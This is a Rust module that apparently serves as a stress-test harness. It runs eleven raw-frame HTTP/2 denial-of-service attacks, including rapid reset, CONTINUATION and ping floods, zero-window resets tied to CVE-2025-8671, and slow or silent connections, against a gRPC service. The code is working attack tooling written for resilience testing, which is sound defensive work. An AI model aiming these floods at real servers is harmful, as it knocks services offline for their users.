//! Attackers, in a process of their own that runs until it is killed.

use std::{future::pending, net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::spawn_local,
    time::{sleep, timeout},
};

use super::support::Outcome;

/// Argument that selects this role.
pub(crate) const ROLE: &str = "--be-the-attackers";
/// Connections of a flood. Each is reopened when it ends.
const FLOODERS: usize = 40;
const SILENT: usize = 5_000;
/// Connections with requests sent byte by byte, 128 on each.
const SLOW: usize = 20;
/// Limit on the runtime of the process.
const LONGEST: Duration = Duration::from_secs(60);
const PATH: &[u8] = b"/opflex.peerstatus.v1.PoolService/ListPeers";

/// What there is.
pub(crate) const ATTACKS: [&str; 11] = [
    "ping",
    "settings",
    "reset",
    "continuation",
    "data",
    "window",
    "priority",
    "zero-window",
    "half-closed",
    "silent",
    "bodies",
];

/// One of those.
#[derive(Clone, Copy)]
pub(crate) struct Attack(pub(crate) &'static str);

impl Attack {
    pub(crate) fn named(name: &str) -> Option<Self> {
        ATTACKS.into_iter().find(|attack| *attack == name).map(Self)
    }

    pub(crate) async fn run(self, address: SocketAddr) -> Outcome<()> {
        let attackers = match self.0 {
            "silent" => SILENT,
            "bodies" => SLOW,
            _ => FLOODERS,
        };
        for _ in 0..attackers {
            spawn_local(async move {
                loop {
                    let _ = self.once(address).await;
                }
            });
        }
        let _ = timeout(LONGEST, pending::<()>()).await;
        Ok(())
    }

    /// Runs one connection to its end.
    async fn once(self, address: SocketAddr) -> Outcome<()> {
        let (mut from, mut to) = TcpStream::connect(address).await?.into_split();
        let speak = async {
            if self.0 != "silent" {
                to.write_all(&[&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, &[])].concat())
                    .await?;
                to.write_all(&self.first()).await?;
                for round in 0.. {
                    if self.0 == "bodies" {
                        sleep(Duration::from_secs(1)).await;
                    }
                    to.write_all(&self.words(round)).await?;
                }
            }
            pending::<Outcome<()>>().await
        };
        let listen = async {
            let mut buffer = vec![0; 1 << 16];
            while from.read(&mut buffer).await? > 0 {}
            Ok(())
        };
        tokio::select! {
            ended = speak => ended,
            ended = listen => ended,
        }
    }

    /// What comes first.
    fn first(self) -> Vec<u8> {
        match self.0 {
            "continuation" => frame(1, 0, 1, &headers()),
            "data" | "window" => frame(1, 4, 1, &headers()),
            // Messages of 60,000 bytes begin.
            "bodies" => (0..128)
                .flat_map(|number| {
                    let begin = frame(0, 0, 2 * number + 1, &[0, 0, 0, 0xea, 0x60]);
                    [frame(1, 4, 2 * number + 1, &headers()), begin].concat()
                })
                .collect(),
            _ => Vec::new(),
        }
    }

    /// And then over and over.
    fn words(self, round: u32) -> Vec<u8> {
        let streams = |frames: fn(u32) -> [Vec<u8>; 2]| {
            (0..100).flat_map(|number| frames(2 * (100 * round + number) + 1).concat()).collect()
        };
        match self.0 {
            "ping" => frame(6, 0, 0, &[7; 8]).repeat(100),
            "settings" => frame(4, 0, 0, &[]).repeat(100),
            "reset" => {
                streams(|stream| [frame(1, 4, stream, &headers()), frame(3, 0, stream, &[0, 0, 0, 8])])
            }
            // The service has to reset these (CVE-2025-8671).
            "zero-window" => {
                streams(|stream| [frame(1, 4, stream, &headers()), frame(8, 0, stream, &[0; 4])])
            }
            "half-closed" => streams(|stream| [frame(1, 5, stream, &headers()), frame(0, 0, stream, &[7])]),
            "continuation" => frame(9, 0, 1, &[0x40, 1, b'x', 1, b'y']).repeat(100),
            "data" => frame(0, 0, 1, &[]).repeat(100),
            "window" => frame(8, 0, 1, &[0, 0, 0, 1]).repeat(100),
            "priority" => frame(2, 0, 3, &[0, 0, 0, 0, 16]).repeat(100),
            "bodies" => (0..128).flat_map(|number| frame(0, 0, 2 * number + 1, &[7])).collect(),
            _ => Vec::new(),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// POST over http, by the numbers in HPACK's table; the rest is written out.
fn headers() -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    let fields: [(&[u8], &[u8]); 3] =
        [(&[0x04], PATH), (&[0x01], b"test"), (&[0x0f, 0x10], b"application/grpc")];
    for (name, value) in fields {
        block.extend(name);
        block.push(u8::try_from(value.len()).unwrap_or_default());
        block.extend(value);
    }
    block
}
